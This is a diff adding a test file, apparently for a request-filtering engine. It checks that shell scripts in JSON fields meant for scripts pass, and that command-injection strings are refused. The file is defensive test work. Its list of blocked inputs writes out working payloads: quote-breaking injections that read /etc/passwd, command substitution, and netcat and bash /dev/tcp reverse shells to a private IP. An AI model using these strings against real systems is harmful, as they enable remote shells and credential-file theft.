@@ -1,0 +1,69 @@
+// Fields that hold scripts by what their API is for: a whole script passes at sensitivity 1, is recorded, and is refused
+// from level 2 on. What breaks out of something is refused there as everywhere.
+
+import { describe, expect, test } from 'vitest'
+
+import { coreEngine } from '../corpora/program.ts'
+
+const engine = coreEngine()
+const strict = coreEngine({ sensitivity: 2 })
+
+const FIELDS = [
+  'body.spec.containers[0].args[1]',
+  'body.spec.template.containers[2].command[2]',
+  'body.jobs.build.steps[3].run',
+  'body.templates[0].script.source',
+  'body.scripts.build',
+]
+
+const SCRIPTS = [
+  'ls -la /var/log && cat /etc/hosts',
+  'set -e\napt-get update && apt-get install -y curl\ncurl -fsS https://example.com/x -o /tmp/x',
+  '# comment\nfor f in *.txt; do cat "$f" | sort; done',
+  'VERSION=$(cat VERSION); echo "v$VERSION" >> out.txt',
+  'if [ -f /tmp/x ]; then rm /tmp/x; fi',
+]
+
+/** No script by itself: something before it is closed or gone on behind, or a connection is opened. */
+const BREAKS = [
+  "x'; cat /etc/passwd #",
+  '127.0.0.1; cat /etc/passwd',
+  '"; whoami; echo "',
+  '$(cat /etc/passwd)',
+  '| nc 10.0.0.1 4444 -e /bin/sh',
+  'bash -i >& /dev/tcp/10.0.0.1/80 0>&1',
+  "cat x' ; id",
+]
+
+describe.each(FIELDS)('%s', (name) => {
+  test.each(SCRIPTS)('may hold %j', (script) => {
+    const judged = engine.text('json', 'value', name, script)
+    expect(judged.refused).toBe(false)
+  })
+
+  test.each(BREAKS)('may not hold %j', (text) => {
+    expect(engine.text('json', 'value', name, text).refused).toBe(true)
+  })
+})
+
+test('a script is recorded, and refused from level 2 on', () => {
+  const script = 'cat /etc/hosts | grep x; ls -la /tmp'
+  expect(engine.text('json', 'value', FIELDS[0] ?? '', script).hits.map((hit) => hit.rule)).toContain(
+    'shell-line',
+  )
+  expect(strict.text('json', 'value', FIELDS[0] ?? '', script).refused).toBe(true)
+})
+
+test.each(['body.command', 'body.run', 'body.user.args', 'query.command', 'body.note', 'body.items[0].note'])(
+  'a name that is not nested in a list says nothing: %s',
+  (name) => {
+    expect(engine.text('json', 'value', name, 'ls -la /var/log && cat /etc/hosts').refused).toBe(true)
+  },
+)
+
+test('a script that passed in its own field is refused in another of the same request', () => {
+  const script = 'ls -la /var/log && cat /etc/hosts'
+  const text = JSON.stringify({ steps: [{ x: { run: script } }], note: script })
+  const body = { bytes: new TextEncoder().encode(text), mediaType: 'application/json', charset: '', text }
+  expect(engine.body(body, text, 'application/json', false).refused).toBe(true)
+})
